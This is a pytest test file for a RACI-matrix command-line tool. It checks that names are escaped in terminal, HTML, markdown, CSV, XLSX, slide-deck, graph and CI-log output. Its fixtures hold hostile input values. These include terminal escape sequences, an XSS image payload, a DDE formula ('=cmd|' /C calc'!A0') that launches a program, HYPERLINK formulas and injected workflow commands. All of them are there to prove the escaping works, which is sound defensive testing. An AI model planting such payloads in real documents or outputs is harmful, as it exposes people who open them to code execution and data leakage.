"""Content is neutralised for every medium it is written to (issue #12, class 3)."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path
from xml.etree import ElementTree as ET

import pytest
import yaml

from raci.output import escape
from tests.conftest import RunLine

HOSTILE = "\x1b]0;pwned\x07\x1b[2J<img src=x onerror=alert(1)>\u202e"

MODEL = """\
version: 1
functions:
  IC: {name: "IC \\e[31m\\u0007 <script>"}
  HR: {name: "=HYPERLINK(\\"http://h/?\\"&A3)"}
activities:
  - id: a
    name: "\\n::error::injected\\r\\n<img src=x onerror=alert(1)>|x"
    phase: "@SUM(1+1)*cmd|' /C calc'!A0"
    raci: {IC: A, HR: R}
  - id: b
    name: "-2+3 \\0 nul"
    raci: {IC: A/R, Bogus: C}
"""


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    path = tmp_path / "org.yaml"
    path.write_text(MODEL, encoding="utf-8")
    return path


def test_terminal_shows_control_characters_as_escapes() -> None:
    assert escape.terminal(HOSTILE) == (
        "\\x1b]0;pwned\\x07\\x1b[2J<img src=x onerror=alert(1)>\\u202e"
    )
    assert escape.terminal("tab\tstays, newline\ngoes") == "tab\tstays, newline\\x0agoes"


def test_rich_text_escapes_markup() -> None:
    assert escape.rich_text("[/x].yaml") == "\\[/x].yaml"


def test_log_lines_never_start_a_workflow_command() -> None:
    block = "ok\n::error::x\n  ::warning::y\n##[set-output name=a]b\nfine :: here\n"
    assert escape.log_lines(block) == (
        "ok\n\\x3a:error::x\n  \\x3a:warning::y\n\\x23#[set-output name=a]b\nfine :: here\n"
    )


def test_markdown_escapes_html_and_inline_syntax() -> None:
    assert escape.markdown("<img onerror=x> & *b* [l](u)") == (
        "\\<img onerror=x\\> \\& \\*b\\* \\[l\\](u)"
    )
    assert escape.markdown_cell("a | b\nc") == "a \\| b<br>c"
    assert escape.markdown("# heading") == "\\# heading"


def test_html_shows_control_characters_as_text() -> None:
    assert escape.html('<b a="1">\x1b[2J\x07\x7f\x9b\tx\ny') == (
        "&lt;b a=&quot;1&quot;&gt;\\x1b[2J\\x07\\x7f\\x9b\tx\ny"
    )
    assert escape.html('"', quote=False) == '"'


def test_report_html_carries_no_control_character(run_line: RunLine, hostile: Path) -> None:
    page = run_line(["report", "-f", "html", str(hostile)], exit_code=None).stdout
    assert not {"\x1b", "\x07", "\x00"} & set(page)
    assert "IC \\x1b[31m\\x07 &lt;script&gt;" in page


def test_mermaid_dot_xml() -> None:
    assert escape.mermaid('a"b<c>#`d\x1b') == "a#quot;b#lt;c#gt;#35;#96;d\\x1b"
    assert escape.dot('a"b\\c\x00d\ne') == '"a\\"b\\\\c\\\\x00d\\ne"'
    assert escape.xml("a\x00b\x1bc\ufffe") == "a\\x00b\\x1bc\\ufffe"


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("=HYPERLINK(1)", "'=HYPERLINK(1)"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("plain", "plain"),
        (2.5, 2.5),
    ],
)
def test_csv_cells_never_start_a_formula(value: object, shown: object) -> None:
    assert escape.csv_cell(value) == shown
    if isinstance(shown, str):
        assert escape.csv_unescape(shown) == value


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("IC \x1b[31m", "IC \\x1b[31m"),
        ("\x00\x07\x0b\x0c\x7f\x9b", "\\x00\\x07\\x0b\\x0c\\x7f\\x9b"),
        ("tab\tline\ncr\r", "tab\tline\ncr\r"),
        ("=\x1b", "'=\\x1b"),
    ],
)
def test_csv_cells_hold_no_control_character_but_tab_lf_cr(value: str, shown: str) -> None:
    assert escape.csv_cell(value) == shown


@pytest.mark.parametrize(
    ("command", "shown"),
    [
        ("export", "IC \\x1b[31m\\x07 <script> (IC)"),
        ("matrix", "'-2+3 \\x00 nul"),
        ("load", "IC \\x1b[31m\\x07 <script>"),
    ],
)
def test_csv_shows_control_characters_as_text_on_stdout_and_in_a_file(
    run_line: RunLine, hostile: Path, tmp_path: Path, command: str, shown: str
) -> None:
    stdout = run_line([command, str(hostile), "-f", "csv"], exit_code=None).stdout
    target = tmp_path / "out.csv"
    run_line([command, str(hostile), "-f", "csv", "-o", str(target)], exit_code=None)
    for text in (stdout, target.read_text(encoding="utf-8")):
        assert not {"\x1b", "\x07", "\x00"} & set(text), command
        assert shown in text.split(","), command


def test_csv_export_import_gives_the_escape_as_text(run_line: RunLine, tmp_path: Path) -> None:
    """As through XLSX: a control character comes back as the text that showed it."""
    model = tmp_path / "org.yaml"
    model.write_text(
        'version: 1\nfunctions:\n  IC: {name: "IC \\e[31m"}\n  HR: {name: "=HR\\a"}\n'
        "activities:\n  - {id: a, name: A, raci: {IC: A/R, HR: C}}\n",
        encoding="utf-8",
    )
    for suffix in ("csv", "xlsx"):
        sheet = tmp_path / f"m.{suffix}"
        run_line(["export", str(model), "-o", str(sheet)])
        back = tmp_path / f"back-{suffix}.yaml"
        run_line(["import", str(sheet), "-o", str(back)])
        functions = yaml.safe_load(back.read_text(encoding="utf-8"))["functions"]
        assert functions["IC"]["name"] == "IC \\x1b[31m", suffix
        assert functions["HR"]["name"] == "=HR\\x07", suffix


def test_check_text_and_stderr_are_neutralised(run_line: RunLine, hostile: Path) -> None:
    result = run_line(["check", str(hostile)], exit_code=1)
    assert "\x1b" not in result.stdout
    assert "\x07" not in result.stdout
    assert not any(line.lstrip().startswith("::") for line in result.stdout.splitlines())
    assert "\\x1b[31m" in result.stdout or "Bogus" in result.stdout


def test_every_text_view_escapes_control_characters(run_line: RunLine, hostile: Path) -> None:
    for args in (["matrix"], ["load"], ["whatif", "--without", "IC"]):
        result = run_line([*args, str(hostile)], exit_code=None)
        assert result.exit_code in {0, 1}, result.stdout
        assert "\x1b" not in result.stdout, args
        assert "\x07" not in result.stdout, args
        lines = result.stdout.splitlines()
        assert not any(line.lstrip().startswith("::") for line in lines), args


def test_markdown_outputs_carry_no_raw_html(run_line: RunLine, hostile: Path) -> None:
    for args in (
        ["check", "--format", "markdown"],
        ["matrix", "--format", "markdown"],
        ["report"],
        ["rebalance", "--format", "markdown"],
    ):
        result = run_line([*args, str(hostile)], exit_code=None)
        assert result.exit_code in {0, 1}, result.stdout
        assert "<img" not in result.stdout.replace("\\<img", ""), args
        assert "<script>" not in result.stdout.replace("\\<script", ""), args


def test_csv_export_has_no_live_formula(run_line: RunLine, hostile: Path) -> None:
    for args in (["export", "--format", "csv"], ["matrix", "--format", "csv"]):
        out = run_line([*args, str(hostile)], exit_code=None).stdout
        for row in csv.reader(io.StringIO(out)):
            for cell in row:
                assert not cell.startswith(escape.FORMULA_START), (args, cell)


def test_xlsx_export_has_only_text_cells(run_line: RunLine, hostile: Path, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    target = tmp_path / "out.xlsx"
    run_line(["export", str(hostile), "-o", str(target)], exit_code=1)
    with zipfile.ZipFile(target) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        assert sheets
        assert not any(b"<f>" in archive.read(name) for name in sheets)
    workbook = load_workbook(target)
    values = [c.value for ws in workbook.worksheets for row in ws.iter_rows() for c in row]
    assert '=HYPERLINK("http://h/?"&A3)' in " ".join(str(v) for v in values)
    assert "-2+3 \\x00 nul" in values


def test_graph_formats_are_well_formed(run_line: RunLine, hostile: Path) -> None:
    import networkx as nx

    graphml = run_line(["graph", str(hostile), "--format", "graphml"]).stdout
    ET.fromstring(graphml.encode())
    graph = nx.parse_graphml(graphml)
    assert "-2+3 \\x00 nul" in {data.get("name") for _, data in graph.nodes(data=True)}
    dot = run_line(["graph", str(hostile), "--format", "dot"]).stdout
    assert "\x00" not in dot
    assert "\x1b" not in dot
    mermaid = run_line(["graph", str(hostile), "--format", "mermaid"]).stdout
    assert "<img" not in mermaid
    assert "\x1b" not in mermaid
    json.loads(run_line(["graph", str(hostile), "--format", "json"]).stdout)


def test_junit_is_xml(run_line: RunLine, hostile: Path) -> None:
    out = run_line(["check", str(hostile), "--format", "junit"], exit_code=1).stdout
    ET.fromstring(out.encode())


def test_rich_markup_in_a_path_does_not_crash(
    run_line: RunLine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "[" / "x].yaml"
    path.parent.mkdir()
    path.write_text("version: 1\n", encoding="utf-8")
    result = run_line(["check", str(path)], exit_code=2, env={"FORCE_COLOR": "1"})
    assert "[/x].yaml" in result.stdout
    from raci.cli.output import progress

    monkeypatch.setattr("sys.stderr.isatty", lambda: True, raising=False)
    with progress("Checking") as update:
        assert update is not None
        update("[/x].yaml")


def test_data_formats_on_a_terminal_are_escaped(
    hostile: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    from raci.cli.output import emit

    monkeypatch.setattr("sys.stdout.isatty", lambda: True, raising=False)
    emit("a,\x1b[2Jb\nc\n", None)
    assert capsys.readouterr().out == "a,\\x1b[2Jb\nc\n"
    monkeypatch.setattr("sys.stdout.isatty", lambda: False, raising=False)
    emit("a,\x1b[2Jb\n", None)
    assert capsys.readouterr().out == "a,\x1b[2Jb\n"


def test_json_never_holds_infinity_or_nan() -> None:
    text = escape.json_text({"a": float("inf"), "b": [float("nan"), 1.5], "c": "\x9b2J"})
    assert json.loads(text) == {"a": None, "b": [None, 1.5], "c": "\x9b2J"}
    assert "\x9b" not in text
    assert "Infinity" not in text


def test_a_hostile_model_name_is_escaped_in_every_text_view(
    run_line: RunLine, hostile: Path
) -> None:
    hostile.write_text('name: "\\e[2J\\e]0;t\\a title"\n' + MODEL, encoding="utf-8")
    for args in (["matrix"], ["load"], ["whatif", "--without", "IC"], ["rebalance"]):
        result = run_line([*args, str(hostile)], exit_code=None)
        assert result.exit_code in {0, 1}, result.stdout
        assert "\x1b" not in result.stdout, args
        assert "\x07" not in result.stdout, args
        assert "\\x1b[2J\\x1b]0;t\\x07 title" in result.stdout, args


CONTROL_MODEL = """\
version: 1
name: "=HYPERLINK(\\"http://x\\") \\e[2J"
functions:
  X: {name: "=cmd|' /C calc'!A0 \\e]0;t\\a", capacity: 1}
  B: {name: "+SUM(1)", capacity: 1}
activities:
  - {id: a1, phase: "@P", name: "=HYPERLINK(\\"http://h\\")", effort: 3, raci: {X: A/R, B: C}}
"""


def test_survey_and_deck_take_control_characters_in_names(
    run_line: RunLine, tmp_path: Path
) -> None:
    from openpyxl import load_workbook
    from pptx import Presentation

    model = tmp_path / "org.yaml"
    model.write_text(CONTROL_MODEL, encoding="utf-8")
    run_line(["survey", str(model), "-o", str(tmp_path / "views"), "--prefill"])
    sheet = load_workbook(tmp_path / "views" / "X.xlsx")["Instructions"]
    assert sheet["A1"].value == 'Whose view? =HYPERLINK("http://x") \\x1b[2J'
    assert sheet["A1"].data_type == "s"
    run_line(["deck", str(model), "-o", str(tmp_path / "deck.pptx")])
    assert Presentation(str(tmp_path / "deck.pptx")).core_properties.title == (
        '=HYPERLINK("http://x") \\x1b[2J'
    )


def test_deck_charts_hold_formula_like_names_as_text(run_line: RunLine, tmp_path: Path) -> None:
    """python-pptx writes chart data with xlsxwriter's ``write()``, which would make
    ``=SUM(1+1)`` a live formula and ``http://x`` a link in the embedded workbook."""
    from openpyxl import load_workbook
    from pptx import Presentation

    model = tmp_path / "org.yaml"
    model.write_text(
        'version: 1\nfunctions:\n  X: {name: "=SUM(1+1)", capacity: 2}\n'
        '  Y: {name: "=HYPERLINK(\\"http://h\\")", capacity: 2}\n  Z: {name: "http://z"}\n'
        "activities:\n  - {id: a, name: A, effort: 1, raci: {X: A/R, Y: C, Z: I}}\n"
        "  - {id: b, name: B, effort: 1, raci: {Y: A/R, X: C, Z: R}}\n",
        encoding="utf-8",
    )
    deck = tmp_path / "deck.pptx"
    run_line(["deck", str(model), "-o", str(deck)])
    categories: set[str] = set()
    with zipfile.ZipFile(deck) as archive:
        embedded = [name for name in archive.namelist() if name.startswith("ppt/embeddings/")]
        assert len(embedded) >= 2
        for name in embedded:
            sheet = load_workbook(io.BytesIO(archive.read(name))).active
            cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
            assert not [cell.coordinate for cell in cells if cell.data_type == "f"], name
            assert not [cell.coordinate for cell in cells if cell.hyperlink], name
            categories |= {cell.value for cell in cells if cell.column == 1}
    assert {"=SUM(1+1)", '=HYPERLINK("http://h")', "http://z"} <= categories
    shown = {
        label
        for slide in Presentation(str(deck)).slides
        for shape in slide.shapes
        if shape.has_chart
        for label in shape.chart.plots[0].categories
    }
    assert {"=SUM(1+1)", '=HYPERLINK("http://h")', "http://z"} <= shown


def test_a_phase_name_is_escaped_in_text_headings_and_column_headers(
    run_line: RunLine, tmp_path: Path
) -> None:
    model = tmp_path / "org.yaml"
    model.write_text(
        'version: 1\nphases: ["go \\e]0;t\\a", run]\nfunctions:\n  IC: {name: IC}\n'
        '  HR: {name: HR}\nactivities:\n  - {id: a, name: A, phase: "go \\e]0;t\\a", '
        "raci: {IC: A/R, HR: C}}\n  - {id: b, name: B, phase: run, raci: {HR: A/R}}\n",
        encoding="utf-8",
    )
    matrix = run_line(["matrix", str(model)]).stdout
    assert "\x1b" not in matrix
    assert "Activity Name go \\x1b]0;t\\x07 run" in matrix.splitlines()
    load = run_line(["load", str(model)]).stdout
    assert "\x1b" not in load
    assert "Phase go \\x1b]0;t\\x07: 1 activity, HHI of accountability 1.000" in load.splitlines()
